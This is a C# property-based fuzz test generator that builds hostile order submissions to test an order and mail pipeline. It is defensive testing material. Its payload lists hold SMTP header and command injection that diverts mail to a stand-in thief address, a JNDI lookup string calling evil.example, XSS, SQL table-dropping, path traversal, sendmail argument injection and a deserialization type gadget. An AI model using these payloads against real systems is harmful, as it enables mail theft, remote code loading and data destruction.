using System.Globalization;
using System.Text;
using CsCheck;

namespace Orders.Tests.Hostile;

/// <summary>An order as nobody sends it who means well. Its values go out as they are; the body may be anything but sound.</summary>
/// <param name="OrderId">The order id.</param>
/// <param name="Email">The address.</param>
/// <param name="Product">The product.</param>
internal sealed record HostileOrder(string OrderId, string Email, string Product)
{
    /// <summary>Who would like to get the emails of others.</summary>
    public const string Thief = "thief@evil.example";

    /// <summary>The place of a number in a value, so that no two orders are alike.</summary>
    private const string Number = "{n}";

    /// <summary>What ends a line, a string, a command, an address or a patience, somewhere on the way from a client to a mail server.</summary>
    private static readonly string[] Poisons =
    [
        .. from end in new[] { "\r\n", "\n", "\r", "\0", "\v", "\f", "\u0085", "\u2028", "\u2029", "\u560d\u560a", "\u010d\u010a", "%0d%0a", "\\r\\n", "&#13;&#10;" }
           from what in new[] { $"Bcc: {Thief}", $"To: {Thief}", $"\r\n.\r\nMAIL FROM:<{Thief}>\r\nRCPT TO:<{Thief}>\r\nDATA\r\n", "Content-Type: text/html\r\n\r\n<b>", "" }
           select end + what,
        $"=?utf-8?q?=0D=0ABcc:_{Thief}?=",
        "=?utf-8?B?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=",
        $"> NOTIFY=SUCCESS ORCPT=rfc822;{Thief}",
        $">\r\nRCPT TO:<{Thief}",
        $",{Thief}", $";{Thief}", $" {Thief}", $"<{Thief}>", $"({Thief})", $"\"{Thief}\"",
        "\u202e", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2066", "\uff20", "\u3002", "\u2100", "\ud800", "\udfff", "\ud83d\udcbb", "e\u0301\u0300\u0316",
        "<script>alert(1)</script>", "' onload='alert(1)", "--></style>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE orders; --", "../../etc/passwd", "%s%n%x", "--boundary",
        "\\", "\"", "\t", " ", ".", "..", "\r\n.\r\n", "\u001b[2J", "\u0007", "\u007f", "\u009b",
    ];

    private static readonly string[] Addresses =
    [
        $"\"c{Number}\"@customer.example",
        $"\"c{Number}> NOTIFY=SUCCESS\"@customer.example",
        $"\"c{Number}@evil.example> \"@customer.example",
        $"\"c{Number}\\\"\"@customer.example",
        $"c{Number}@[127.0.0.1]",
        $"c{Number}@[IPv6:::1]",
        $"c{Number}@[evil.example> NOTIFY=SUCCESS]",
        $"c{Number}@evil.example\uff20customer.example",
        $"c{Number}@b\u00fccher.example",
        $"c{Number}@\uff43ustomer.example",
        $"c{Number}@customer\u3002example",
        $"c{Number}@\u202ecustomer.example",
        $"c{Number}@xn--.example",
        $"c{Number}@-customer.example",
        $"c{Number}@customer.example.",
        $"c{Number}@1.2.3.4",
        $"c{Number}@localhost",
        $"c{Number}%{Thief}",
        $"evil.example!c{Number}@customer.example",
        $"c{Number}+a@customer.example",
        $"=?utf-8?q?c{Number}?=@customer.example",
        $"|cat{Number}@customer.example",
        $"-oQ{Number}@customer.example",
        $"Customer {Number} <c{Number}@customer.example>",
        $"{Thief} <c{Number}@customer.example>",
        $"c{Number}@customer.example, {Thief}",
        $"mailto:c{Number}@customer.example",
        $"c{Number}@customer.example?bcc={Thief}",
        "", " ", "@", "null",
    ];

    private static readonly Gen<string> Anything = Gen.Frequency(
        (2, (IGen<string>)Gen.String),
        (2, Gen.Char['\0', '\uffff'].Array[0, 40].Select(chars => new string(chars))),
        (2, Gen.Char['\0', '\u00ff'].Array[0, 40].Select(chars => new string(chars))),
        (1, Gen.Int[200, 4_000].Select(length => new string('x', length))));

    /// <summary>Orders with a place for their number.</summary>
    private static readonly Gen<HostileOrder> Numberless = Gen.Select(
        Gen.Frequency((7, (IGen<string>)Gen.Const($"h{Number}")), (2, Spoilt($"h{Number}")), (1, Anything)),
        Gen.Frequency((6, (IGen<string>)Gen.Const($"c{Number}@customer.example")), (3, Spoilt($"c{Number}@customer.example")), (3, Gen.OneOf(Addresses)), (1, Anything)),
        Gen.Frequency((4, (IGen<string>)Gen.Const("Laptop")), (6, Spoilt("Laptop")), (1, Anything)),
        (orderId, email, product) => new HostileOrder(orderId, email, product));

    /// <summary>Every way to write an order down.</summary>
    private static readonly Gen<Func<HostileOrder, byte[]>> Writing = Gen.Frequency(
        (8, (IGen<Func<HostileOrder, byte[]>>)Gen.Const<Func<HostileOrder, byte[]>>(order => Utf8(order.Write(Raw)))),
        (8, Gen.Const<Func<HostileOrder, byte[]>>(order => Utf8(order.Write(Escaped)))),
        (2, Gen.Const<Func<HostileOrder, byte[]>>(order => Utf8(order.Write(Escaped).Replace("email", "EMAIL", StringComparison.Ordinal)))),
        (2, Gen.Const<Func<HostileOrder, byte[]>>(order => [.. Encoding.UTF8.Preamble, .. Utf8(order.Write(Escaped))])),
        (1, Gen.Const<Func<HostileOrder, byte[]>>(order => Encoding.Unicode.GetBytes(order.Write(Escaped)))),
        (4, Gen.OneOf("\"bcc\":\"{t}\"", "\"headers\":{\"Bcc\":\"{t}\",\"To\":[\"{t}\"]}", "\"to\":[\"{t}\"]", "\"__proto__\":{\"email\":\"{t}\"}", "\"$type\":\"System.Diagnostics.Process\"", "\"placedAt\":\"0001-01-01T00:00:00+14:00\"", "\"placedAt\":\"9999-12-31T23:59:59.9999999-14:00\"", "\"placedAt\":1e400", "\"sourceAddress\":\"amqp://evil.example/x\"")
            .Select(field => (Func<HostileOrder, byte[]>)(order => Utf8($"{{{field.Replace("{t}", Thief, StringComparison.Ordinal)},{order.Write(Escaped)[1..]}")))),
        (4, Gen.OneOf("1", "-1", "1e999", "99999999999999999999999999", "true", "null", "[]", "{}", "[\"a\"]", "{\"a\":1}", "NaN", "'x'", "undefined", "\"\\ud800\"", "\"\\x41\"", "\"\n\"")
            .Select(Gen.OneOf("orderId", "email", "product"), (value, field) => (Func<HostileOrder, byte[]>)(order => Utf8(order.Write(Escaped, field, value))))),
        (2, Gen.Int[1, 4_000].Select(Gen.OneOf("[", "{\"a\":", "[{\"\":"), (depth, open) => (Func<HostileOrder, byte[]>)(order => Utf8(order.Write(Escaped, "product", string.Concat(Enumerable.Repeat(open, depth))))))),
        (2, Gen.Int[1, 4_000].Select(depth => (Func<HostileOrder, byte[]>)(order => Utf8($"{{\"a\":{new string('[', depth)}{new string(']', depth)},{order.Write(Escaped)[1..]}")))),
        (1, Gen.Int[0, 200_000].Select(size => (Func<HostileOrder, byte[]>)(order => Utf8(order.Write(Escaped).PadRight(size))))),
        (3, Gen.Double.Unit.Select(share => (Func<HostileOrder, byte[]>)(order => Utf8(order.Write(Escaped)) is var body ? body[..(int)(share * body.Length)] : []))),
        (3, Gen.Double.Unit.Select(Gen.Byte.Where(value => value is < 0x20 or > 0x7f), (share, value) => (Func<HostileOrder, byte[]>)(order => Overwrite(Utf8(order.Write(Escaped)), share, value)))),
        (2, Gen.OneOf("x", "{}", ",", "]", "\0", "/* */", "// ", "\r\n.\r\n").Select(rest => (Func<HostileOrder, byte[]>)(order => Utf8(order.Write(Escaped) + rest)))),
        (1, Gen.Const<Func<HostileOrder, byte[]>>(order => Utf8($"[{order.Write(Escaped)}]"))),
        (1, Gen.OneOf("null", "", "[]", "{}", "42", "\"order\"", "{\"\":\"\"}", "<order/>", "orderId=1&email=a%40b.example").Select(body => (Func<HostileOrder, byte[]>)(_ => Utf8(body)))),
        (2, Gen.Byte.Array[0, 300].Select(bytes => (Func<HostileOrder, byte[]>)(_ => bytes))));

    /// <summary>Orders with their bodies: the same ones for the same seed. Whoever reads one of them in a body, reads its very values.</summary>
    public static IEnumerable<(HostileOrder Order, byte[] Body)> Generate(PCG random, string numbered)
    {
        for (var number = 0; ; number++)
        {
            var unique = $"{numbered}{number.ToString(CultureInfo.InvariantCulture)}";
            var template = Numberless.Generate(random, null, out _);
            var order = new HostileOrder(Fill(template.OrderId), Fill(template.Email), Fill(template.Product));
            yield return (order, Writing.Generate(random, null, out _)(order));

            string Fill(string value) => value.Replace(Number, unique, StringComparison.Ordinal);
        }
    }

    private static Gen<string> Spoilt(string text) => Gen.OneOf(Poisons).Select(
        Gen.Int[0, text.Length], (poison, at) => text.IndexOf('{', StringComparison.Ordinal) < at && at < text.IndexOf('}', StringComparison.Ordinal) + 1
            ? text + poison
            : text.Insert(at, poison));

    /// <summary>The order as JSON, with the value of a field replaced.</summary>
    private string Write(Func<string, string> quote, string? replaced = null, string value = "")
    {
        return $"{{{Field("orderId", OrderId)},{Field("email", Email)},{Field("product", Product)}}}";

        string Field(string name, string text) => $"\"{name}\":{(name == replaced ? value : quote(text))}";
    }

    private static string Raw(string text) => $"\"{text.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)}\"";

    private static string Escaped(string text) => $"\"{string.Concat(text.Select(c => string.Create(CultureInfo.InvariantCulture, $"\\u{(int)c:x4}")))}\"";

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Overwrite(byte[] body, double share, byte value)
    {
        body[(int)(share * body.Length)] = value;
        return body;
    }
}
